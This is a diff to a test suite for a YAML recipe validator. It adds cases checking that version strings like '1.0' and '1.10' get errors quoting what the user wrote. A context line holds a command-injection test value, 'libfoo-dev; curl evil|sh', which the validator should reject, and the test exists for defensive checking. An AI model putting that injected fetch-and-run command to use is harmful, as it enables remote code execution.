@@ -117,6 +117,9 @@ overrides:
     ['unknown key with suggestion', GOOD.replace('entrypoint:', 'entrypiont:'), /^r\.yaml:14:1: unknown key "entrypiont" in the recipe[\s\S]*did you mean "entrypoint"/],
     ['missing required key', GOOD.replace('name: demo\n', ''), /^r\.yaml:1:1: the recipe is missing "name"/],
     ['bad semver', GOOD.replace('1.2.3', '1.2'), /^r\.yaml:2:10: version "1.2" is not semantic versioning[\s\S]*MAJOR\.MINOR\.PATCH/],
+    // YAML reads these as the numbers 1 and 1.1; the error quotes what the user wrote.
+    ['a version YAML reads as a number', GOOD.replace('1.2.3', '1.0'), /^r\.yaml:2:10: version "1\.0" is not semantic versioning/],
+    ['a version whose trailing zero a number loses', GOOD.replace('1.2.3', '1.10'), /^r\.yaml:2:10: version "1\.10" is not semantic versioning/],
     ['wrong type', GOOD.replace('platforms: [linux/amd64, arm64]', 'platforms: linux/amd64'), /^r\.yaml:3:12: recipe\.platforms must be a list/],
     ['unsupported platform', GOOD.replace('arm64]', 'mips]'), /^r\.yaml:3:26: unknown platform "mips"/],
     ['shell in a package name', GOOD.replace('libfoo-dev', '"libfoo-dev; curl evil|sh"'), /^r\.yaml:9:31: build\.packages\[1\]: "libfoo-dev; curl evil\|sh" is not a Debian package name/],
